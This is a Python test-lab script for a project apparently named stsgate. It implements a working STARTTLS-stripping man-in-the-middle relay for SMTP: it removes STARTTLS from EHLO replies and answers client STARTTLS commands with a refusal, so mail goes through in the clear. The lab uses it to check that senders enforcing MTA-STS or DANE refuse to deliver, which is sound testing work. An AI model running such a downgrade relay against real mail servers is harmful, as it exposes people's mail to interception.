#!/usr/bin/python3
"""tests/lab/striptls.py: a STARTTLS-stripping man in the middle for the stsgate test lab.

A TCP relay on ADDR:25 in front of a real lab receiver (UPSTREAM:25). It passes the SMTP dialogue
through unchanged except for what an active attacker on the path would do to downgrade it:
  - the STARTTLS line is removed from every EHLO reply (a multi-line reply is kept well formed);
  - a client that sends STARTTLS anyway gets "454 4.7.0 TLS not available" from the relay itself,
    and the command never reaches the server.
So a sender that insists on TLS (MTA-STS enforce, DANE, the Required options) must not deliver
through it, and one that only prefers TLS delivers in the clear, to the upstream receiver.
Usage: striptls.py --listen ADDR --upstream ADDR [--port 25] [--pidfile FILE]
"""

import argparse
import os
import re
import signal
import socket
import threading

STARTTLS_LINE = re.compile(rb"^250[ -]STARTTLS\s*$", re.IGNORECASE)


def lines(sock):
    """Yield CRLF- (or LF-) terminated lines from sock until it closes."""
    buf = b""
    while True:
        data = sock.recv(65536)
        if not data:
            if buf:
                yield buf
            return
        buf += data
        while True:
            i = buf.find(b"\n")
            if i < 0:
                break
            yield buf[:i + 1]
            buf = buf[i + 1:]


class Session:
    def __init__(self, client, server):
        self.client, self.server = client, server
        self.lock = threading.Lock()

    def to_client(self, data):
        with self.lock:
            self.client.sendall(data)

    def server_to_client(self):
        reply = []
        try:
            for line in lines(self.server):
                reply.append(line)
                if len(line) >= 4 and line[3:4] == b"-":
                    continue
                kept = [l for l in reply if not STARTTLS_LINE.match(l)]
                if kept and len(kept) != len(reply):
                    last = kept[-1]
                    kept[-1] = last[:3] + b" " + last[4:]
                self.to_client(b"".join(kept))
                reply = []
        except OSError:
            pass
        self.close()

    def client_to_server(self):
        # Commands are only looked at outside message content. After a BDAT chunk (binary,
        # counted, not lines) nothing is looked at any more: STARTTLS cannot follow it anyway.
        in_data = passthrough = False
        try:
            for line in lines(self.client):
                cmd = line.strip().upper()
                if passthrough:
                    pass
                elif in_data:
                    if line.rstrip(b"\r\n") == b".":
                        in_data = False
                elif cmd == b"STARTTLS":
                    self.to_client(b"454 4.7.0 TLS not available\r\n")
                    continue
                elif cmd == b"DATA":
                    in_data = True
                elif cmd.startswith(b"BDAT"):
                    passthrough = True
                self.server.sendall(line)
        except OSError:
            pass
        self.close()

    def close(self):
        for s in (self.client, self.server):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass


def main():
    ap = argparse.ArgumentParser(description="STARTTLS-stripping relay for the stsgate lab")
    ap.add_argument("--listen", required=True)
    ap.add_argument("--upstream", required=True)
    ap.add_argument("--port", type=int, default=25)
    ap.add_argument("--pidfile")
    args = ap.parse_args()

    lsock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    lsock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    lsock.bind((args.listen, args.port))
    lsock.listen(64)

    def serve():
        while True:
            client, _ = lsock.accept()
            try:
                server = socket.create_connection((args.upstream, args.port), timeout=10)
                server.settimeout(None)
            except OSError:
                client.sendall(b"421 4.3.0 upstream unavailable\r\n")
                client.close()
                continue
            s = Session(client, server)
            threading.Thread(target=s.server_to_client, daemon=True).start()
            threading.Thread(target=s.client_to_server, daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()
    if args.pidfile:
        with open(args.pidfile + ".tmp", "w") as f:
            f.write("%d\n" % os.getpid())
        os.rename(args.pidfile + ".tmp", args.pidfile)
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    signal.signal(signal.SIGINT, lambda *_: stop.set())
    while not stop.wait(1):
        pass


if __name__ == "__main__":
    main()
